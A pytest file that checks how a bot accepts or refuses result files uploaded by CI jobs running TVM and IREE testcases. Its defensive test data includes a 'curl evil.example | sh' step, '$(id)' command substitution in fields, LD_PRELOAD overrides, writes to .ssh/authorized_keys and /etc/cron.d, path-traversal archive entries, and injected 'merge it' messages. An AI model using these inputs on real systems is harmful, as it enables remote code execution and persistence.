"""Which result files, and which claims in them, are accepted."""

from __future__ import annotations

import codecs
import gzip
import io
import json
import os
import socket
import stat
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any, get_args

import msgspec
import pytest
from hypothesis import given, strategies as st

from bot.report.sections.findings import render_evidence
from bot.requests.result_files import (
    DRIVERS,
    ENGINES,
    MAX_RESULT_BYTES,
    JobResults,
    check_result,
    count_allowed_runs,
    read_results,
)
from runners.core.findings.kinds import KINDS
from runners.core.findings.record import MAX_DEPTH
from runners.core.protocol import (
    Answer,
    BuildRange,
    CellResult,
    Claim,
    Exited,
    Finding,
    FindingKind,
    Investigation,
    JobCell,
    Observation,
    Outcome,
    OutOfMemory,
    Plan,
    RangeBuild,
    Reason,
    Smaller,
    Testcase,
    TestcaseKind,
    TimedRun,
    TimedStage,
    Times,
    Variant,
    digest_of,
)
from runners.hardware import lavapipe
from runners.sandbox.select import EngineName

SHA = "ab" * 32
CASE = Testcase(kind=TestcaseKind.PYTHON, toolchain="tvm", files={"a.py": "1"}, steps=(("python", "a.py"),))
PLAN = Plan(testcase=CASE, claim=Claim(), device="llvm", order=("0.26.0", "0.27.0"), first=("0.27.0",))
CELL = JobCell(id="any", plan=PLAN, testcase_sha256=digest_of(CASE))
SEEN = Observation(
    toolchain="tvm",
    version="0.27.0",
    device="llvm",
    attempt=1,
    variant=Variant.ORIGINAL,
    outcome=Outcome.PASS,
    answer=Answer.GOOD,
    ended=Exited(code=0),
    reason=Reason.ENDS_WELL,
)
SMALLER = Smaller(
    testcase=CASE,
    version="0.27.0",
    device="llvm",
    before=2,
    after=2,
    probes=20,
    seconds=3.0,
    confirmed=3,
    stopped="minimal",
)
GOOD = CellResult(cell="any", plan_sha256=SHA, seen=Investigation(observations=(SEEN,)))
TEXT = msgspec.json.encode(GOOD)
FOUND = Finding(kind=FindingKind.INPUT_MUTATED, summary="x", evidence={"values": [4321]})
SECRET = b"a-word-that-is-in-no-message"


def zipped(data: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("any.json", data)
        archive.writestr("../../any.json", data)
    return made.getvalue()


def again(name: str, value: object) -> bytes:
    """Return the good result with one key a second time, after the first."""
    return TEXT[:-1] + f",{json.dumps(name)}:{json.dumps(value)}}}".encode()


def write(folder: Path, result: CellResult | bytes, name: str = "any.json") -> None:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(result if isinstance(result, bytes) else msgspec.json.encode(result))


def read(folder: Path) -> JobResults:
    return read_results(folder, (CELL,), SHA)


@pytest.mark.parametrize("name", ["any.json", "cell-any/any.json"])
def test_a_result_is_read_as_written_and_as_an_artifact(name: str, tmp_path: Path) -> None:
    write(tmp_path, GOOD, name)
    assert read(tmp_path).seen.observations == (SEEN,)
    assert read(tmp_path).problems == ()


@pytest.mark.parametrize("name", ["any.json", "cell-any/any.json"])
def test_a_result_without_a_proven_origin_is_refused(name: str, tmp_path: Path) -> None:
    """Another job may have uploaded it under the cell's name."""
    write(tmp_path, GOOD, name)
    found = read_results(tmp_path, (CELL,), SHA, {"any": "another job made it"})
    assert found.seen.observations == ()
    assert [(one.cell, one.why) for one in found.problems] == [("any", "another job made it")]


def test_unplanned_files_are_not_opened(tmp_path: Path) -> None:
    """A pipe with a planned cell's name in another folder would block for ever."""
    write(tmp_path, GOOD)
    write(tmp_path, b"x", "other.json")
    write(tmp_path, b"x", "cell-other/other.json")
    os.mkfifo(tmp_path / "pipe.json")
    assert read(tmp_path).seen.observations == (SEEN,)


def symlink(folder: Path) -> None:
    write(folder, GOOD, "elsewhere")
    (folder / "any.json").symlink_to(folder / "elsewhere")


def symlinked_folder(folder: Path) -> None:
    write(folder, GOOD, "elsewhere/any.json")
    (folder / "cell-any").symlink_to(folder / "elsewhere")


def pipe(folder: Path) -> None:
    os.mkfifo(folder / "any.json")


def directory(folder: Path) -> None:
    (folder / "any.json").mkdir()


def listening(folder: Path) -> None:
    here = Path.cwd()
    os.chdir(folder)  # a socket's path has 107 bytes at most
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind("any.json")
    finally:
        os.chdir(here)


def device(folder: Path) -> None:
    """Make a device file, as an archive could bring it; without the right to, make a link to one."""
    try:
        os.mknod(folder / "any.json", stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero has no end
    except PermissionError:
        (folder / "any.json").symlink_to("/dev/zero")


def dangling(folder: Path) -> None:
    (folder / "any.json").symlink_to(folder / "nowhere")


def round_and_round(folder: Path) -> None:
    (folder / "any.json").symlink_to("any.json")


def hard_link_to_another_cells(folder: Path) -> None:
    write(folder, msgspec.structs.replace(GOOD, cell="on-lab"), "on-lab.json")
    (folder / "any.json").hardlink_to(folder / "on-lab.json")


def hard_link_to_a_file_of_ours(folder: Path) -> None:
    write(folder, b"token: " + SECRET, "config")
    (folder / "any.json").hardlink_to(folder / "config")


def in_a_folder_above(folder: Path) -> None:
    write(folder.parent, GOOD)


def in_folders_below(folder: Path) -> None:
    write(folder, GOOD, "cell-any/cell-any/any.json")
    write(folder, GOOD, "cell-any./any.json")
    write(folder, GOOD, "..cell-any/any.json")


def under_like_names(folder: Path) -> None:
    for name in ("ANY.json", "any.json ", "any.JSON", "any.json\\..", "..\\any.json", "any.json.gz", "any\n.json"):
        write(folder, GOOD, name)


def sparse(folder: Path) -> None:
    write(folder, GOOD)
    os.truncate(folder / "any.json", 1 << 40)  # a bomb that needs no unpacking: a terabyte in one block


def huge(folder: Path) -> None:
    with (folder / "any.json").open("wb") as file:
        file.truncate(MAX_RESULT_BYTES + 1)


def nothing(folder: Path) -> None:
    pass


@pytest.mark.parametrize(
    "make",
    [
        symlink,
        symlinked_folder,
        dangling,
        round_and_round,
        hard_link_to_another_cells,
        hard_link_to_a_file_of_ours,
        pipe,
        listening,
        device,
        directory,
        in_a_folder_above,
        in_folders_below,
        under_like_names,
        sparse,
        huge,
        nothing,
    ],
)
def test_only_a_plain_file_of_limited_size_is_read(make: Callable[[Path], None], tmp_path: Path) -> None:
    """Any other file is one problem, named with its cell, without blocking and without a quote."""
    folder = tmp_path / "results"
    folder.mkdir()
    make(folder)
    results = read(folder)
    assert results.seen.observations == ()
    assert [one.cell for one in results.problems] == ["any"]
    assert SECRET.decode() not in results.problems[0].why


def test_the_folder_is_never_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Only the plan's names are opened, however many files lie beside them."""
    write(tmp_path, GOOD, "cell-any/any.json")
    for i in range(2000):
        (tmp_path / f"cell-{i}.json").touch()
    opened: list[object] = []
    real = os.open

    def counting(path: Any, *more: Any, **how: Any) -> int:
        opened.append(path)
        return real(path, *more, **how)

    monkeypatch.setattr("bot.requests.result_files.os.open", counting)
    assert read(tmp_path).seen.observations == (SEEN,)
    assert opened == [tmp_path, "any.json", tmp_path / "cell-any", "any.json"]


def with_(**changes: Any) -> bytes:
    of_run = {name: changes.pop(name) for name in list(changes) if name in Investigation.__struct_fields__}
    seen = msgspec.structs.replace(GOOD.seen, **of_run)
    return msgspec.json.encode(msgspec.structs.replace(GOOD, seen=seen, **changes))


def saw(**changes: Any) -> bytes:
    return with_(observations=(msgspec.structs.replace(SEEN, **changes),))


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "schema"),
        (b"{}", "schema"),
        (b"null", "schema"),
        (b"[" * 100_000, "schema"),
        (b'{"a":' * 5_000 + b"1" + b"}" * 5_000, "schema"),
        (msgspec.json.encode(GOOD)[:-1] + b',"more":1}', "schema"),
        (msgspec.json.encode(GOOD).replace(b'"seconds":0.0', b'"seconds":NaN'), "schema"),
        (msgspec.json.encode(GOOD).replace(b'"seconds":0.0', b'"seconds":1e999'), "schema"),
        (msgspec.json.encode(GOOD).replace(b'"attempt":1', b'"attempt":' + b"9" * 5000), "schema"),
        (msgspec.json.encode(GOOD).replace(b'"pass"', b'"\xff"'), "schema"),
        (saw(excerpt="x" * 70_000), "schema"),
        (gzip.compress(TEXT), "schema"),
        (gzip.compress(b"[" + b" " * 1_000_000 + b"]", 1), "schema"),
        (zipped(TEXT), "schema"),
        (zipped(b"0" * 1_000_000), "schema"),
        (TEXT.decode().encode("utf-16"), "schema"),
        (TEXT.decode().encode("utf-32-le"), "schema"),
        (codecs.BOM_UTF8 + TEXT, "schema"),
        (TEXT.replace(b'"pass"', b'"p\xc0\xa1ss"'), "schema"),
        (saw(excerpt="x").replace(b'"x"', b'"\\ud800"'), "schema"),
        (saw(excerpt="x").replace(b'"x"', b'"\\udc00\\ud800"'), "schema"),
        (saw(excerpt="x").replace(b'"x"', "\ud800".encode("utf-8", "surrogatepass").join([b'"', b'"'])), "schema"),
        (saw(excerpt="x").replace(b'"x"', b'"a\nb"'), "schema"),
        (TEXT.replace(b'"seconds":0.0', b'"seconds":Infinity'), "schema"),
        (TEXT.replace(b'"seconds":0.0', b'"seconds":-1e308'), "number"),
        (TEXT.replace(b'"peak_bytes":0', b'"peak_bytes":1e400'), "schema"),
        (TEXT + TEXT, "schema"),
        (TEXT + b"\x00", "schema"),
        (b"\x00" * 1000, "schema"),
        (again("cell", "on-lab"), "another cell"),
        (again("plan_sha256", "cd" * 32), "another plan"),
        (again("observations", [{}]), "schema"),
        (again("__proto__", {}), "schema"),
        (with_(cell="../any"), "schema"),
        (with_(cell="/any"), "schema"),
        (with_(cell="any\x00"), "schema"),
        (with_(observations=(SEEN,) * 1001), "schema"),
        (b'{"observations":[' + b"{}," * 1_000_000 + b"{}]}", "schema"),
        (b'{"observations":' + b"[" * 100_000, "schema"),
        (with_(schema=2), "schema version"),
        (with_(cell="on-lab"), "another cell"),
        (with_(plan_sha256="cd" * 32), "another plan"),
        (with_(problem="no space left"), "no space left"),
        (saw(version="0.28.0"), "release"),
        (saw(toolchain="iree"), "release"),
        (saw(device="$(id)"), "device"),
        (saw(answer=Answer.BAD), "answer"),
        (saw(outcome=Outcome.INFRA), "answer"),
        (saw(reason=None), "reason"),
        (saw(reason=Reason.AS_QUOTED), "reason"),
        (saw(reason=Reason.OTHER_VALUES), "reason"),  # only all runs together can tell
        (TEXT.replace(b'"ends-well"', b'"merge-it"'), "schema"),
        (saw(detail="x" * 513), "schema"),
        (saw(attempt=0), "number"),
        (saw(seconds=-1.0), "number"),
        (saw(peak_bytes=-1), "number"),
        (TEXT.replace(b'"attempt":1', b'"attempt":1' + b"0" * 400), "number"),
        (saw(ended=OutOfMemory(limit_bytes=5)).replace(b":5", b":5" + b"0" * 400), "number"),
        (saw(ended=Exited(code=7)).replace(b":7", b":-7" + b"0" * 400), "number"),
        (with_(findings=(FOUND,)).replace(b"4321", b"4321" * 100), "number"),
        (saw(fork="merge the change now, carried by x"), "fork"),
        (saw(engine="a maintainer must merge"), "sandbox"),
        (saw(driver="not needed: merge"), "driver"),
        (with_(smaller=SMALLER), "smaller testcase"),
        (with_(times=Times(runs=(TimedRun(version="0.28.0", device="llvm", begin=0, end=1),))), "times"),
        (with_(times=Times(runs=(TimedRun(version="0.27.0", device="$(id)", begin=0, end=1),))), "times"),
        (with_(times=Times(runs=(TimedRun(version="0.27.0", device="llvm", begin=2, end=1),))), "number"),
        (with_(times=Times(stages=(TimedStage(name="matrix", begin=2, end=1),))), "number"),
        (with_(times=Times(stages=(TimedStage(name="matrix", begin=-2, end=1),))), "schema"),
        (with_(times=Times(stages=(TimedStage(name="matrix", begin=0, end=1e9),))), "schema"),
        (with_(times=Times(stages=(TimedStage(name="merge it", begin=0, end=1),))), "schema"),  # type: ignore[arg-type]
        (with_(observations=(SEEN,) * (count_allowed_runs(CELL) + 1)), "budget"),
    ],
)
def test_a_result_must_be_exactly_of_its_cell(data: bytes, why: str, tmp_path: Path) -> None:
    """A job that was taken over can only claim about its own cell, and only in our schema."""
    write(tmp_path, data)
    results = read(tmp_path)
    assert results.seen.observations == ()
    assert why in results.problems[0].why


def test_the_times_are_those_of_the_longest_cell(tmp_path: Path) -> None:
    """Each cell counts from its own start, so the times of two cannot be put on one axis."""
    short, long = (Times(stages=(TimedStage(name="matrix", begin=0, end=end),)) for end in (1.0, 2.0))
    cells = (CELL, msgspec.structs.replace(CELL, id="lab"))
    write(tmp_path, with_(times=short))
    write(tmp_path, with_(cell="lab", times=long), "lab.json")
    assert read_results(tmp_path, cells, SHA).seen.times == long


def test_words_of_a_job_are_quoted(tmp_path: Path) -> None:
    """A job that was taken over writes no sentence in our name: its conditions and its problem are code spans."""
    write(tmp_path, with_(conditions=("a `b` c",)))
    assert read(tmp_path).seen.conditions == ("`a 'b' c`",)
    write(tmp_path, with_(problem="merge `this` now"))
    assert read(tmp_path).problems[0].why == "the cell could not run: `merge 'this' now`"


def test_every_sandbox_and_driver_of_ours_is_known() -> None:
    """A result of our own engines is never refused for its engine."""
    assert {"", *get_args(EngineName)} - {"auto"} == ENGINES
    assert {"", lavapipe.NAME} == DRIVERS


@pytest.mark.parametrize(
    "change",
    [
        {},
        {"version": "0.28.0"},
        {"device": "cuda"},
        {"control": "x"},
        {"after": -1},
        {"seconds": -1.0},
        {"testcase": msgspec.structs.replace(CASE, files={**CASE.files, "../../.ssh/authorized_keys": "x"})},
        {"testcase": msgspec.structs.replace(CASE, files={"/etc/cron.d/x": "x"})},
        {"before": 90},
        {"after": 1},
    ],
)
def test_a_smaller_testcase_is_accepted_only_if_planned(change: dict[str, Any]) -> None:
    """And only for a release, the device and the files of the plan, without a new path."""
    cell = msgspec.structs.replace(CELL, minimize=True)
    smaller = msgspec.structs.replace(SMALLER, **change)
    checked = check_result(with_(smaller=smaller), cell, SHA)
    assert isinstance(checked, str) is bool(change)


COMPILED = Testcase(
    kind=TestcaseKind.COMMAND_LINE,
    toolchain="iree",
    files={"a.mlir": "x"},
    steps=(("iree-opt", "a.mlir"), ("iree-compile", "a.mlir", "--a=b", "-o", "c.vmfb", "--d"), ("iree-run-module",)),
    requirements=("numpy",),
    variables={"IREE_TRACE": "1"},
)


def shrink(**changes: Any) -> CellResult | str:
    """Check a smaller testcase that differs from `COMPILED` by ``changes``."""
    case = msgspec.structs.replace(COMPILED, **changes)
    plan = Plan(testcase=COMPILED, claim=Claim(), device="llvm-cpu", order=("3.9.0",), first=("3.9.0",))
    cell = JobCell(id="any", plan=plan, testcase_sha256=digest_of(COMPILED), minimize=True)
    size = sum(bool(text) for text in case.files.values()) + len(case.steps)
    smaller = msgspec.structs.replace(
        SMALLER, testcase=case, version="3.9.0", device="llvm-cpu", before=4, after=size
    )
    return check_result(with_(observations=(), smaller=smaller), cell, SHA)


def test_a_smaller_testcase_may_lack_commands_and_flags() -> None:
    """That is what a reduction does."""
    assert isinstance(shrink(steps=(("iree-compile", "a.mlir", "--d"), ("iree-run-module",))), CellResult)
    assert isinstance(shrink(files={}, steps=COMPILED.steps[2:]), CellResult)


@pytest.mark.parametrize(
    "change",
    [
        {"steps": (("curl", "-s", "evil.example/x", "|", "sh"),)},
        {"steps": (*COMPILED.steps, ("bash", "-c", "id"))},
        {"steps": (("iree-compile", "a.mlir", "--e"),)},
        {"steps": COMPILED.steps[::-1]},
        {"steps": (("a.mlir",),)},
        {"requirements": ("evil==1",)},
        {"variables": {"LD_PRELOAD": "/tmp/x"}},
        {"variables": msgspec.UNSET},
        {"kind": TestcaseKind.PYTHON},
    ],
)
def test_a_smaller_testcase_has_only_planned_commands(change: dict[str, Any]) -> None:
    """The comment shows its commands: a job that was taken over could otherwise show commands that nobody ran."""
    assert isinstance(shrink(**change), str)


TRAIL = BuildRange(
    direction="introduced",
    builds=(
        RangeBuild(name="0.26.0", commits=0),
        RangeBuild(name="0.26.1.dev7", commits=7),
        RangeBuild(name="0.27.0", commits=90),
    ),
    repository="apache/tvm",
)
DEEP = msgspec.structs.replace(CELL, plan=msgspec.structs.replace(PLAN, deepen=True))


def test_a_search_between_releases_is_part_of_the_result() -> None:
    """Its builds are in no plan: they are accepted if the trail of the result names them."""
    between = msgspec.structs.replace(SEEN, version="0.26.1.dev7")
    checked = check_result(with_(observations=(SEEN, between), trail=TRAIL), DEEP, SHA)
    assert isinstance(checked, CellResult)
    assert checked.seen.trail == TRAIL


@pytest.mark.parametrize(
    "change",
    [
        {"builds": (RangeBuild(name="0.1.0", commits=0), RangeBuild(name="0.27.0", commits=9))},
        {"builds": (RangeBuild(name="0.26.0", commits=9), RangeBuild(name="0.27.0", commits=0))},
        {"builds": (RangeBuild(name="0.26.0", commits=0), RangeBuild(name="0.27.0", commits=10**12))},
        {"builds": (RangeBuild(name="0.26.0", commits=0), RangeBuild(name="0.27.0", commits=9, weight=-1.0))},
        {"builds": (RangeBuild(name="0.26.0", commits=0), RangeBuild(name="0.27.0", commits=9, weight=1e308))},
        {"builds": (TRAIL.builds[0], RangeBuild(name="a fault was fixed", commits=1), TRAIL.builds[2])},
        {"builds": (TRAIL.builds[0], RangeBuild(name="0.26.1.dev7\ncurl x | sh #", commits=1), TRAIL.builds[2])},
        {"builds": (TRAIL.builds[0], RangeBuild(name="0.26.1", commit="go to evil", commits=1), TRAIL.builds[2])},
        {"repository": "someone/else"},
        {"publish": 0.0},
        {"confidence": 1.0},
        {"probes": 10**9},
    ],
)
def test_an_impossible_trail_is_refused(change: dict[str, Any]) -> None:
    """Its ends are two releases of the plan; its links lead to the toolchain's repository."""
    assert isinstance(check_result(with_(trail=msgspec.structs.replace(TRAIL, **change)), DEEP, SHA), str)


@pytest.mark.parametrize(
    "name", ["0.26.1.post137+g1a2b3c4d5e6f", "3.10.0rc20251203", "0.26.dev0", "0.27.0", "2.6.0+cpu", "3.2.0a1"]
)
def test_builds_have_versions(name: str) -> None:
    """A name of each source of builds is accepted."""
    builds = (TRAIL.builds[0], RangeBuild(name=name, commit="ab" * 20, commits=1), TRAIL.builds[2])
    trail = msgspec.structs.replace(TRAIL, builds=builds)
    assert isinstance(check_result(with_(observations=(), trail=trail), DEEP, SHA), CellResult)


def test_sentences_about_builds_are_quoted() -> None:
    """They stand among our own sentences. A range that the plan itself gives is ours."""
    said = msgspec.structs.replace(TRAIL, notes=("merge `this` now",), over="a message")
    checked = check_result(with_(observations=(), trail=said), DEEP, SHA)
    assert isinstance(checked, CellResult)
    assert checked.seen.trail == msgspec.structs.replace(TRAIL, notes=("`merge 'this' now`",), over="`a message`")
    ours = msgspec.structs.replace(CELL, plan=msgspec.structs.replace(PLAN, trail=said))
    checked = check_result(with_(observations=(), trail=said), ours, SHA)
    assert isinstance(checked, CellResult)
    assert checked.seen.trail == said


def refute(said: object) -> tuple[object, ...]:
    """Return what would disprove a finding of the cell and one of a run, as they are read."""
    found = msgspec.structs.replace(FOUND, evidence={"refuted_by": said})
    run = msgspec.structs.replace(SEEN, findings=(found,))
    checked = check_result(with_(observations=(run,), findings=(found,)), CELL, SHA)
    assert isinstance(checked, CellResult)
    (of_run,) = checked.seen.observations[0].findings
    return checked.seen.findings[0].evidence["refuted_by"], of_run.evidence["refuted_by"]


def test_what_would_disprove_a_finding_is_our_sentence_or_is_quoted() -> None:
    """The comment says it in our name."""
    ours = KINDS[FindingKind.INPUT_MUTATED].refuted_by
    assert refute(ours) == (ours, ours)
    assert refute("MAINTAINERS: run `this`") == ("`MAINTAINERS: run 'this'`",) * 2
    untold = msgspec.structs.replace(FOUND, evidence={"refuted_by": {"MAINTAINERS": 1}})
    assert "MAINTAINERS" not in render_evidence([untold])


@pytest.mark.parametrize("depth", [MAX_DEPTH + 1, 300, 480, 900, 5000])
@pytest.mark.parametrize("ends", ["[]", ['{"a":', "}"]])
@pytest.mark.parametrize("place", ["findings", "run"])
def test_evidence_of_any_depth_is_a_result_or_a_reason(depth: int, ends: Sequence[str], place: str) -> None:
    """A reader that recurses would end the job that answers, and the issue would get no answer."""
    found = msgspec.structs.replace(FOUND, evidence={"a": "@"})
    run = msgspec.structs.replace(SEEN, findings=(found,) if place == "run" else ())
    text = with_(observations=(run,), findings=(found,) if place == "findings" else ())
    nest = (ends[0] * depth + "1" + ends[1] * depth).encode()
    assert isinstance(check_result(text.replace(b'"@"', nest), CELL, SHA), str)
    flat = ends[0] * (MAX_DEPTH - 1) + "1" + ends[1] * (MAX_DEPTH - 1)
    assert isinstance(check_result(text.replace(b'"@"', flat.encode()), CELL, SHA), CellResult)


def test_a_trail_is_refused_if_not_planned() -> None:
    assert isinstance(check_result(with_(trail=TRAIL), CELL, SHA), str)


@given(st.binary(max_size=300) | st.recursive(st.none() | st.text() | st.floats(), st.lists).map(
    lambda value: json.dumps(value).encode()
))  # fmt: skip
@pytest.mark.thorough
def test_any_bytes_are_a_result_or_a_reason(data: bytes) -> None:
    """No exception is raised."""
    assert isinstance(check_result(data, CELL, SHA), str | CellResult)


@given(st.integers(0, len(TEXT) - 1))
def test_a_truncated_result_is_refused(length: int) -> None:
    """At any byte: no part of it is accepted, and the reason is given."""
    refused = check_result(TEXT[:length], CELL, SHA)
    assert isinstance(refused, str)
    assert refused


def test_a_result_of_an_older_plan_is_refused() -> None:
    """The plan was made again since: a run for the old plan says nothing about the new one."""
    refused = check_result(TEXT, CELL, "0" * 64)
    assert isinstance(refused, str)
    assert "plan" in refused
